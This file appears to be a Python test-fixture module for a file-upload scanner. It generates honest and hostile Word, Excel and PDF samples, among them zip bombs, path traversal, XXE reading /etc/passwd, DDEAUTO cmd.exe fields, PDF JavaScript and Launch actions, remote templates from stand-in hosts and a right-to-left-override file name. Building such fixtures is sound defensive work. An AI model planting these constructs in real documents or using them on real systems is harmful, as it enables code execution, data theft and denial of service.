"""Files made to do harm, and honest ones, built when they are needed: none is kept in the repository."""

import base64
import hashlib
import io
import struct
import warnings
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

import docx
import openpyxl
import openpyxl.chart
import openpyxl.comments

WORD_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
SHEET_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PDF = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n%%EOF\n"


PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="


@dataclass(frozen=True)
class Sample:
    """One file; ``wanted``: the key of its sentence in ``texts.UPLOAD``, or "" when it must be taken."""

    what: str
    name: str
    wanted: str
    make: Callable[[], bytes]


CT = "http://schemas.openxmlformats.org/package/2006/content-types"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
MAIN_OF = {WORD_TYPE: "word/document.xml", SHEET_TYPE: "xl/workbook.xml"}


def types(main: str = WORD_TYPE, *, more: str = "", path: str = "") -> bytes:
    """Content types as offices write them: of the suffixes, of the main part, and ``more``."""
    path = path or MAIN_OF.get(main, "word/document.xml")
    return (
        f'<?xml version="1.0"?><Types xmlns="{CT}"><Default Extension="xml" ContentType="application/xml"/>'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Default Extension="png" ContentType="image/png"/>{more}'
        f'<Override PartName="/{path}" ContentType="{main}"/></Types>'
    ).encode()


def package(
    parts: dict[str, bytes] | None = None, *, main: str = WORD_TYPE, head: bytes | None = None, path: str = ""
) -> bytes:
    buffer = io.BytesIO()
    path = path or MAIN_OF.get(main, "word/document.xml")
    own = {"_rels/.rels": relations("officeDocument", path, mode=""), path: b"<a/>"}
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", types(main) if head is None else head)
        for name, content in {**own, **(parts or {})}.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def word(body: str = "<w:p/>", **parts: bytes) -> bytes:
    document = f'<?xml version="1.0"?><w:document xmlns:w="{W}"><w:body>{body}</w:body></w:document>'.encode()
    return package({"word/document.xml": document, **{k.replace("__", "/"): v for k, v in parts.items()}})


def relations(kind: str, target: str, mode: str = 'TargetMode="External"') -> bytes:
    return (
        f'<?xml version="1.0"?><Relationships xmlns="{RELS}"><Relationship Id="r1" Type="{REL}/{kind}" '
        f'Target="{target}" {mode}/></Relationships>'
    ).encode()


def real_word() -> bytes:
    document, buffer = docx.Document(), io.BytesIO()
    document.add_heading("BÁO CÁO", 1)
    document.add_paragraph("Đã tổ chức 02 hội nghị; xem https://hungyen.gov.vn. DDE là viết tắt.")
    document.add_table(2, 3)
    document.save(buffer)
    return buffer.getvalue()


def rich_word() -> bytes:
    """A picture, a header, a property and a comment."""
    document, buffer = docx.Document(), io.BytesIO()
    run = document.add_paragraph("Ảnh hội nghị").add_run()
    run.add_picture(io.BytesIO(base64.b64decode(PIXEL)))
    document.sections[0].header.paragraphs[0].text = "UBND TỈNH"
    document.core_properties.author = "Sở Tư pháp"
    document.add_comment([run], "Đề nghị bổ sung", "An", "A")
    document.save(buffer)
    return buffer.getvalue()


def rich_sheet() -> bytes:
    """A chart, a link, a remark and a filter."""
    book, buffer = openpyxl.Workbook(), io.BytesIO()
    page = book.active
    assert page is not None
    for row in (["Chỉ tiêu", "Số"], ["A", 1], ["B", 2]):
        page.append(row)
    page["A2"].hyperlink = "https://hungyen.gov.vn"
    page["A3"].comment = openpyxl.comments.Comment("xem lại", "An")
    chart = openpyxl.chart.BarChart()
    chart.add_data(openpyxl.chart.Reference(page, min_col=2, min_row=1, max_row=3), titles_from_data=True)
    page.add_chart(chart, "D2")
    page.auto_filter.ref = "A1:B3"
    book.save(buffer)
    return buffer.getvalue()


def real_sheet() -> bytes:
    book, buffer = openpyxl.Workbook(), io.BytesIO()
    assert book.active is not None
    book.active.append(["Chỉ tiêu", "=SUM(A1:A2)", 3])
    book.save(buffer)
    return buffer.getvalue()


def with_link() -> bytes:
    """An honest document whose text links to a page."""
    rels = relations("hyperlink", "https://hungyen.gov.vn")
    return word(**{"word___rels__document.xml.rels": rels})


def bomb(entries: int, size: int) -> bytes:
    content = b"".join((b"<a>", b" " * size, b"</a>"))
    return package({f"word/{n}.xml": content for n in range(entries)})


def pdf_bomb(megabytes: int) -> bytes:
    """Built in pieces, so that the memory measured is the inspection's."""
    worker = zlib.compressobj()
    packed = b"".join([worker.compress(b" " * (1 << 20)) for _ in range(megabytes)]) + worker.flush()
    return odd_stream(b"/Type /ObjStm /Filter /FlateDecode", lambda _: packed)


def overlapping() -> bytes:
    """Two names for the same bytes: the central directory lists one entry many times (Fifield 2019)."""
    whole = package({"word/document.xml": b"<a>" + hashlib.shake_256(b"x").digest(5000)})
    end = whole.rindex(b"PK\x05\x06")
    size, offset = struct.unpack("<II", whole[end + 12 : end + 20])
    directory = whole[offset : offset + size]
    last = directory[directory.rindex(b"PK\x01\x02") :]
    more = b"".join(last.replace(b"word/document.xml", f"word/{n:08d}.xml".encode()) for n in range(400))
    tail = struct.pack("<HHII", 402, 402, size + len(more), offset)
    return whole[:offset] + directory + more + b"PK\x05\x06\0\0\0\0" + tail + b"\0\0"


def lying_size() -> bytes:
    """An entry that says it is small."""
    whole = bytearray(package({"word/document.xml": b"<a>" + b"\0" * (20 << 20)}))
    at = whole.rindex(b"PK\x01\x02")
    whole[at + 24 : at + 28] = struct.pack("<I", 100)
    return bytes(whole)


def encrypted_entry() -> bytes:
    whole = bytearray(word())
    at = whole.rindex(b"PK\x01\x02")
    whole[at + 8] |= 1
    return bytes(whole)


def twice() -> bytes:
    """Readers disagree about which of two entries of one name counts."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive, warnings.catch_warnings():
        warnings.simplefilter("ignore")
        for content in (types(), types(SHEET_TYPE)):
            archive.writestr("[Content_Types].xml", content)
    return buffer.getvalue()


def linked() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", types())
        entry = zipfile.ZipInfo("word/document.xml")
        entry.external_attr = 0o120777 << 16
        archive.writestr(entry, "/etc/passwd")
    return buffer.getvalue()


def laughs() -> bytes:
    lines = ['<!DOCTYPE l [<!ENTITY a0 "ha">']
    lines += [f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12)]
    return ('<?xml version="1.0"?>' + "".join(lines) + "]><l>&a11;</l>").encode()


def external_entity(encoding: str = "utf-8") -> bytes:
    text = (
        f'<?xml version="1.0" encoding="{encoding}"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
    )
    return text.encode(encoding)


def pdf(body: bytes) -> bytes:
    return b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog " + body + b" >>\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"


def pdf_hidden(body: bytes, padding: int = 0) -> bytes:
    """The same within a compressed object stream."""
    packed = zlib.compress(b"2 0 << " + body + b" >>" + b" " * padding)
    head = b"3 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(packed)
    return b"%PDF-1.7\n" + head + packed + b"\nendstream\nendobj\n%%EOF\n"


def signed_pdf() -> bytes:
    """As a signing program leaves it: a signature field with its byte range."""
    return pdf(b"/AcroForm << /Fields [ 5 0 R ] /SigFlags 3 >>") + (
        b"5 0 obj\n<< /FT /Sig /V << /Type /Sig /Filter /Adobe.PPKLite /ByteRange [0 100 200 300] /Contents <00> >> >>\nendobj\n%%EOF\n"
    )


SAMPLES = [
    Sample("a Word document", "báo cáo.docx", "", real_word),
    Sample("a sheet with a formula", "số liệu.xlsx", "", real_sheet),
    Sample("a document with a link", "bc.docx", "", with_link),
    Sample("a PDF", "bc.pdf", "", lambda: PDF),
    Sample("a signed PDF", "bc-signed.pdf", "", signed_pdf),
    Sample("a PDF that opens at a page", "bc.pdf", "", lambda: pdf(b"/OpenAction [ 2 0 R /Fit ]")),
    Sample("a PDF with compressed objects", "bc.pdf", "", lambda: pdf_hidden(b"/Type /Page")),
    Sample("a PDF that speaks of scripts", "bc.pdf", "", lambda: pdf(b"/X (javascript and launch)")),
    Sample("a name of 255 bytes", "đ" * 120 + ".pdf", "", lambda: PDF),
    Sample("a name of a device", "CON.pdf", "", lambda: PDF),
    Sample("a bomb of one entry", "bc.docx", "unsafe", lambda: bomb(1, 40 << 20)),
    Sample("a bomb of many entries", "bc.docx", "unsafe", lambda: bomb(30, 4 << 20)),
    Sample("too many entries", "bc.docx", "unsafe", lambda: bomb(2_100, 1)),
    Sample("overlapping entries", "bc.docx", "unsafe", overlapping),
    Sample("an entry that lies about its size", "bc.docx", "magic", lying_size),
    Sample("a nested archive", "bc.docx", "unsafe", lambda: package({"word/a.zip": package()})),
    Sample("a nested program", "bc.docx", "unsafe", lambda: package({"word/media/a.exe": b"MZ"})),
    Sample("a nested script", "bc.docx", "unsafe", lambda: package({"word/a.vbs": b"x"})),
    Sample("a name given twice", "bc.docx", "unsafe", twice),
    Sample("an encrypted entry", "bc.docx", "unsafe", encrypted_entry),
    Sample("a symbolic link", "bc.docx", "unsafe", linked),
    Sample("a path that climbs", "bc.docx", "unsafe", lambda: package({"../../etc/x": b"x"})),
    Sample("a path that climbs by backslashes", "bc.docx", "unsafe", lambda: package({"..\\..\\x": b"x"})),
    Sample("an absolute path", "bc.docx", "unsafe", lambda: package({"/etc/passwd": b"x"})),
    Sample("a drive", "bc.docx", "unsafe", lambda: package({"C:/x": b"x"})),
    Sample("macros under an honest name", "bc.docx", "macro", lambda: package({"word/vbaProject.bin": b"x"})),
    Sample("macros of a sheet", "bc.xlsx", "macro", lambda: package({"xl/vbaProject.bin": b"x"}, main=SHEET_TYPE)),
    Sample("the content type of macros", "bc.docx", "macro", lambda: package(head=types(WORD_TYPE.replace("main", "macroEnabled.main")))),
    Sample("a macro document", "bc.docm", "macro", word),
    Sample("a macro sheet", "bc.xlsm", "macro", word),
    Sample("a template from elsewhere", "bc.docx", "embedded", lambda: word(**{"word___rels__settings.xml.rels": relations("attachedTemplate", "http://x.example/a.dotm")})),
    Sample("an object loaded from elsewhere", "bc.docx", "embedded", lambda: word(**{"word___rels__document.xml.rels": relations("oleObject", "http://x.example/a")})),
    Sample("a frame from elsewhere", "bc.docx", "embedded", lambda: word(**{"word___rels__webSettings.xml.rels": relations("frame", "http://x.example/a")})),
    Sample("an OLE object", "bc.docx", "embedded", lambda: word(**{"word__embeddings__oleObject1.bin": b"\xd0\xcf"})),
    Sample("an ActiveX control", "bc.docx", "embedded", lambda: word(**{"word__activeX__activeX1.xml": b"<a/>"})),
    Sample("a ribbon of its own", "bc.docx", "embedded", lambda: package({"customUI/customUI.xml": b"<a/>"})),
    Sample("DDE in a field", "bc.docx", "embedded", lambda: word('<w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText>')),
    Sample("DDE cut in runs", "bc.docx", "embedded", lambda: word("<w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\cmd</w:instrText></w:r>")),
    Sample("DDE in an attribute", "bc.docx", "embedded", lambda: word('<w:fldSimple w:instr="DDE cmd x"/>')),
    Sample("DDE of a sheet", "bc.xlsx", "embedded", lambda: package({"xl/externalLinks/externalLink1.xml": b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'}, main=SHEET_TYPE)),
    Sample("entities in the types", "bc.docx", "unsafe", lambda: package(head=b'<!DOCTYPE a [<!ENTITY x "y">]>' + types())),
    Sample("a billion laughs", "bc.docx", "unsafe", lambda: package({"word/document.xml": laughs()})),
    Sample("a billion laughs in a sheet", "bc.xlsx", "unsafe", lambda: package({"xl/workbook.xml": laughs()}, main=SHEET_TYPE)),
    Sample("an external entity", "bc.docx", "unsafe", lambda: package({"docProps/core.xml": external_entity()})),
    Sample("an external entity in UTF-16", "bc.docx", "unsafe", lambda: package({"word/document.xml": external_entity("utf-16")})),
    Sample("entities in relations", "bc.docx", "unsafe", lambda: package({"_rels/.rels": external_entity()})),
    Sample("entities behind a long comment", "bc.docx", "unsafe", lambda: package({"word/document.xml": external_entity().replace(b"?><!D", b"?><!--" + b"x" * 70_000 + b"--><!D")})),
    Sample("a sheet called a document", "bc.docx", "magic", lambda: package(main=SHEET_TYPE)),
    Sample("a package without types", "bc.docx", "unsafe", lambda: package(head=b"<Types/>")),
    Sample("an old document", "bc.docx", "magic", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600),
    Sample("half a package", "bc.docx", "magic", lambda: word()[:200]),
    Sample("nothing", "bc.docx", "empty", lambda: b""),
    Sample("a program called PDF", "bc.pdf", "magic", lambda: b"MZ\x90\0" + b"\0" * 99),
    Sample("a page called PDF", "bc.pdf", "magic", lambda: b"<html><script>alert(1)</script>"),
    Sample("a PDF behind junk", "bc.pdf", "magic", lambda: b"GIF89a" + PDF),
    Sample("a PDF with a script", "bc.pdf", "runs", lambda: pdf(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>")),
    Sample("a PDF with a script under its short name", "bc.pdf", "runs", lambda: pdf(b"/AA << /O << /JS 3 0 R >> >>")),
    Sample("a PDF whose names are escaped", "bc.pdf", "runs", lambda: pdf(b"/OpenAction << /S /J#61vaScr#69pt >>")),
    Sample("a PDF with a hidden script", "bc.pdf", "runs", lambda: pdf_hidden(b"/S /JavaScript")),
    Sample("a PDF with a hidden escaped script", "bc.pdf", "runs", lambda: pdf_hidden(b"/S /JavaScript /#4a#53 (app.alert(1))")),
    Sample("a PDF that starts a program", "bc.pdf", "runs", lambda: pdf(b"/OpenAction << /S /Launch /F (cmd.exe) >>")),
    Sample("a PDF that starts a program late", "bc.pdf", "runs", lambda: PDF + b" " * (3 << 20) + b"<< /S /Launch >>"),
    Sample("a name across two pieces", "bc.pdf", "runs", lambda: b"%PDF-1.7" + b" " * ((1 << 20) - 12) + b"/JavaScript "),
    Sample("a PDF with a file inside", "bc.pdf", "attached", lambda: pdf(b"/Names << /EmbeddedFiles 4 0 R >>")),
    Sample("a PDF with a film", "bc.pdf", "runs", lambda: pdf(b"/Annots [ << /Subtype /RichMedia >> ]")),
    Sample("a PDF with an XFA form", "bc.pdf", "runs", lambda: pdf(b"/AcroForm << /XFA 4 0 R >>")),
    Sample("a PDF that sends a form", "bc.pdf", "runs", lambda: pdf(b"/A << /S /SubmitForm /F (http://x.example) >>")),
    Sample("a locked PDF", "bc.pdf", "locked", lambda: PDF + b"trailer << /Encrypt 9 0 R >>"),
    Sample("a PDF that is an archive", "bc.pdf", "unsafe", lambda: PDF + word()),
    Sample("a PDF bomb", "bc.pdf", "unchecked", lambda: pdf_bomb(80)),
    Sample("a script", "bc.js", "kind", lambda: b"alert(1)"),
    Sample("a page", "bc.html", "kind", lambda: b"<html>"),
    Sample("a drawing that runs", "bc.svg", "kind", lambda: b"<svg onload='alert(1)'/>"),
    Sample("two suffixes", "bc.pdf.exe", "kind", lambda: PDF),
    Sample("a suffix turned round", "bc\u202efdp.exe", "kind", lambda: PDF),
    Sample("no suffix", "bc", "kind", lambda: PDF),
]  # fmt: skip

PREFIXED = f'<x:document xmlns:x="{W}"><x:body>{{}}</x:body></x:document>'


def odd_stream(
    entries: bytes, pack: Callable[[bytes], bytes], body: bytes = b"/S /JavaScript /JS (app.alert(1))"
) -> bytes:
    """A script in an object stream that is written in an uncommon way."""
    packed = pack(b"2 0 << " + body + b" >>")
    head = b"3 0 obj\n<< " + entries + b" /N 1 /First 4 /Length %d >>\nstream\n" % len(packed)
    return b"%PDF-1.7\n" + head + packed + b"\nendstream\nendobj\n%%EOF\n"


def with_relations(rels: bytes, part: str = "word/_rels/document.xml.rels", **parts: bytes) -> bytes:
    return word(**{part.replace("/", "__"): rels, **parts})


def sheet(formula: str) -> bytes:
    return package({"xl/worksheets/sheet1.xml": f"<worksheet><f>{formula}</f></worksheet>".encode()}, main=SHEET_TYPE)


def many_object_streams(count: int) -> bytes:
    """Names of object streams before one that breaks at its end."""
    packed = zlib.compress(b" " * (1 << 20))[:-20]
    return (
        b"%PDF-1.7\n3 0 obj\n<< "
        + b"/Type /ObjStm " * count
        + b"/Filter /FlateDecode >>\nstream\n"
        + packed
        + b"\nendstream\n%%EOF"
    )


FLATE = b"/Type /ObjStm /Filter /FlateDecode"
SAMPLES += [
    Sample("PDF: an escaped object stream", "a.pdf", "runs", lambda: odd_stream(b"/Type /#4fbjStm /Filter /FlateDecode", zlib.compress)),
    Sample("PDF: two filters", "a.pdf", "runs", lambda: odd_stream(b"/Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode]", lambda b: zlib.compress(b).hex().encode() + b">")),
    Sample("PDF: ASCII85", "a.pdf", "runs", lambda: odd_stream(b"/Type /ObjStm /Filter /ASCII85Decode", lambda b: base64.a85encode(b) + b"~>")),
    Sample("PDF: run lengths", "a.pdf", "runs", lambda: odd_stream(b"/Type /ObjStm /Filter /RunLengthDecode", lambda b: bytes([len(b) - 1]) + b + b"\x80")),
    Sample("PDF: an unknown filter", "a.pdf", "unchecked", lambda: odd_stream(b"/Type /ObjStm /Filter /JBIG2Decode", zlib.compress)),
    Sample("PDF: a filter elsewhere", "a.pdf", "unchecked", lambda: odd_stream(b"/Type /ObjStm /Filter 9 0 R", zlib.compress)),
    Sample("PDF: a far stream", "a.pdf", "runs", lambda: odd_stream(FLATE + b" " * 5000, zlib.compress)),
    Sample("PDF: a broken stream", "a.pdf", "unchecked", lambda: many_object_streams(1)),
    Sample("PDF: a link that runs", "a.pdf", "link", lambda: pdf(b"/A << /S /URI /URI (\\152avascript:alert(1)) >>")),
    Sample("PDF: a link in hexadecimal", "a.pdf", "link", lambda: pdf(b"/A << /S /URI /URI <6A6176617363726970743a31> >>")),
    Sample("PDF: a link elsewhere", "a.pdf", "link", lambda: pdf(b"/A << /S /URI /URI 7 0 R >>") + b"7 0 obj (file://x/y) endobj %%EOF"),
    Sample("PDF: another file", "a.pdf", "link", lambda: pdf(b"/OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\x.pdf) >>")),
    Sample("PDF: a page opened by itself", "a.pdf", "link", lambda: pdf(b"/OpenAction << /S /URI /URI (http://x.example/) >>")),
    Sample("PDF: only a beginning", "a.pdf", "magic", lambda: b"%PDF-"),
    Sample("PDF: a page behind the beginning", "a.pdf", "magic", lambda: b"%PDF-1.7\n<html><script>alert(1)</script>" + PDF),
    Sample("PDF: a program behind the end", "a.pdf", "unsafe", lambda: PDF + b"MZ" + b"\0" * 500),
    Sample("PDF: an archive before padding", "a.pdf", "unsafe", lambda: PDF + word() + b"\0" * 70_000),
    Sample("DDE in single quotes", "a.docx", "embedded", lambda: word("<w:fldSimple w:instr='DDEAUTO c:\\cmd'/>")),
    Sample("DDE under another prefix", "a.docx", "embedded", lambda: package({"word/document.xml": PREFIXED.format("<x:instrText>DDEAUTO c</x:instrText>").encode()})),
    Sample("DDE in references", "a.docx", "embedded", lambda: word("<w:instrText>&#68;&#68;EAUTO c</w:instrText>")),
    Sample("DDE in CDATA", "a.docx", "embedded", lambda: word("<w:instrText><![CDATA[DDEAUTO c]]></w:instrText>")),
    Sample("DDE in UTF-16", "a.docx", "embedded", lambda: package({"word/document.xml": PREFIXED.format("<x:instrText>DDE c</x:instrText>").encode("utf-16")})),
    Sample("DDE far apart", "a.docx", "embedded", lambda: word("<w:instrText>DDE</w:instrText>" + "<w:p/>" * 400 + "<w:instrText>AUTO c</w:instrText>")),
    Sample("DDE in a part of another name", "a.docx", "embedded", lambda: package({"word/t.txt": PREFIXED.format("<x:instrText>DDE c</x:instrText>").encode()}, head=types(path="word/t.txt"), path="word/t.txt")),
    Sample("a picture from a share", "a.docx", "embedded", lambda: word('<w:instrText>INCLUDEPICTURE "\\\\evil\\x.png"</w:instrText>')),
    Sample("entities in EBCDIC", "a.docx", "magic", lambda: package({"word/document.xml": '<?xml version="1.0" encoding="cp037"?><!DOCTYPE a><a/>'.encode("cp037")})),
    Sample("a template in single quotes", "a.docx", "embedded", lambda: with_relations(relations("attachedTemplate", "http://x").replace(b'"', b"'"))),
    Sample("a template in references", "a.docx", "embedded", lambda: with_relations(relations("attached&#84;emplate", "http://x", "TargetMode = 'External'"))),
    Sample("a picture from elsewhere", "a.docx", "embedded", lambda: with_relations(relations("image", "file://evil/x.png"))),
    Sample("a piece from elsewhere", "a.docx", "embedded", lambda: with_relations(relations("aFChunk", "http://x"))),
    Sample("a document within", "a.docx", "embedded", lambda: with_relations(relations("subDocument", "x.docx"))),
    Sample("a link to a share", "a.docx", "link", lambda: with_relations(relations("hyperlink", "file://evil/x"))),
    Sample("macros under another name", "a.docx", "macro", lambda: package({"word/x.bin": b"x"}, head=types(more='<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'))),
    Sample("a kind nobody knows", "a.docx", "embedded", lambda: package({"word/x.bin": b"x"}, head=types(more='<Default Extension="bin" ContentType="application/x-new"/>'))),
    Sample("a document in a document", "a.docx", "embedded", lambda: word(word__embeddings__a=word())),
    Sample("a program as a picture", "a.docx", "unsafe", lambda: word(**{"word__media__a.png": b"MZ\x90"})),
    Sample("an archive as a picture", "a.docx", "unsafe", lambda: word(**{"word__media__a.png": word()})),
    Sample("names that differ in case", "a.docx", "unsafe", lambda: package({"WORD/DOCUMENT.XML": b"<b/>"})),
    Sample("bytes behind the end", "a.docx", "magic", lambda: word() + b"MZ" * 100),
    Sample("bytes before the beginning", "a.docx", "magic", lambda: b"MZ" + word()),
    Sample("a workbook of another kind beside it", "a.xlsx", "embedded", lambda: package({"xl/externalLinks/externalLink1.xml": b"<externalLink><oleLink progId='x'/></externalLink>"}, main=SHEET_TYPE)),
    Sample("DDE of a sheet under a prefix", "a.xlsx", "embedded", lambda: package({"xl/l.xml": b'<x:a xmlns:x="u"><x:ddeLink/></x:a>'}, main=SHEET_TYPE)),
    Sample("a query", "a.xlsx", "embedded", lambda: package({"xl/connections.xml": b"<connections/>"}, main=SHEET_TYPE)),
    Sample("a macro sheet of old", "a.xlsx", "macro", lambda: package({"xl/s.xml": b"<xm:macrosheet/>"}, main=SHEET_TYPE)),
    Sample("a dialog", "a.xlsx", "embedded", lambda: package({"xl/d.xml": b"<dialogsheet/>"}, main=SHEET_TYPE)),
    Sample("a formula that asks a server", "a.xlsx", "embedded", lambda: sheet('_xlfn.WEBSERVICE("http://x")')),
    Sample("a formula that starts a program", "a.xlsx", "embedded", lambda: sheet("cmd|'/c calc'!A0")),
    Sample("a document with a picture", "a.docx", "", rich_word),
    Sample("a sheet with a chart", "a.xlsx", "", rich_sheet),
    Sample("an honest formula", "a.xlsx", "", lambda: sheet('IF(A1&gt;0,"a|b",SUM(B1:B2))')),
    Sample("PDF: links", "a.pdf", "", lambda: pdf(b"/A << /S /URI /URI (https://hungyen.gov.vn) >> /B << /S /URI /URI (mailto:a@b.vn) >>")),
    Sample("PDF: links in compressed objects", "a.pdf", "", lambda: pdf_hidden(b"/A << /S /URI /URI (http://hungyen.gov.vn) >>")),
]  # fmt: skip
